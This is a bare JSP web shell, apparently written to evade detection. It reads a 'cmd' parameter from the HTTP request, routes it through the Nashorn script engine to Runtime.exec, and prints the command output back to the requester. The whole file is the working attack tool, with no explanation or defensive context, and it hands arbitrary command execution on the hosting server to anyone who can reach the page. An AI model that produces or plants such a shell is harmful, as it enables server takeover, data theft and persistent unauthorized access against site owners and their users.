<%@ page import="javax.script.*" %>
<%
    ScriptEngineManager m = new ScriptEngineManager();
    ScriptEngine n = m.getEngineByName("nashorn");
    Bindings b = n.createBindings();
    b.put("c", request.getParameter("cmd"));
    String js = "var R = Java.type('java.lang.Runtime'); var S = Java.type('java.util.Scanner');"
              + "new S(R.getRuntime().exec(c).getInputStream()).useDelimiter('\\\\A').next();";
    Object r = n.eval(js, b);
    out.print(r);
%>
